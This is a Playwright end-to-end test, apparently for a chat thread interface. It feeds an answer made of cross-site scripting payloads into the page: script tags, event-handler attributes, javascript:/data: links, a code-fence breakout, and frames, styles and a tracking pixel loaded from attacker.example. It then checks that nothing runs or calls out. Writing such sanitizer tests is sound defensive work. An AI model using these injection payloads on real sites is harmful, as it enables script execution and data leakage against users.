import { expect, test } from "./fixtures";
import { upstream } from "./fixtures/upstream";
import { ThreadPage, unique } from "./pages/thread";

const ELSEWHERE = "https://attacker.example";

const HOSTILE = `<script>window.owned = "script"</script>
<img src=x onerror="window.owned = 'onerror'">
<iframe src="${ELSEWHERE}/frame"></iframe>
<svg onload="window.owned = 'svg'"></svg>
<style>@import url("${ELSEWHERE}/style.css");</style>

![a picture](${ELSEWHERE}/pixel.png?who=member)

![][reference]

[reference]: ${ELSEWHERE}/reference.png

[click me](javascript:window.owned='link') and [me](data:text/html,<script>window.owned='data'</script>)
and [me too](vbscript:msgbox) and <javascript:window.owned='auto'> and [[upstream:html]]

[an honest link](https://example.org/page)

\`\`\`html"><script>window.owned = "fence"</script>
<script>window.owned = "code"</script>
\`\`\`

The end of it.`;

test("an answer full of scripts, frames and pictures runs nothing and calls nobody", async ({ page }) => {
  const thread = new ThreadPage(page);
  const question = unique("Try to break out");
  await upstream.reply(question, HOSTILE);
  await upstream.behave(question, "slow:4");
  await page.goto("/");
  await thread.ask(question);
  for (const shown of ["streamed", "from the server"]) {
    if (shown === "from the server") await page.reload();
    const answer = thread.lastAnswer;
    await expect(answer, shown).toContainText("The end of it.");
    await expect(
      answer.locator("script, iframe, img, style, object, embed, [onerror], [onload]"),
    ).toHaveCount(0);
    const addresses = await answer
      .getByRole("link")
      .evaluateAll((links) => links.map((link) => link.getAttribute("href") ?? ""));
    expect(addresses, shown).toContain("https://example.org/page");
    for (const address of addresses) expect(address, shown).toMatch(/^https:\/\//);
    for (const text of await answer.getByText(/^(click me|me|me too)$/).all()) await text.click();
    expect(await page.evaluate(() => "owned" in window), shown).toBe(false);
    expect(page.context().pages()).toHaveLength(1);
  }
});
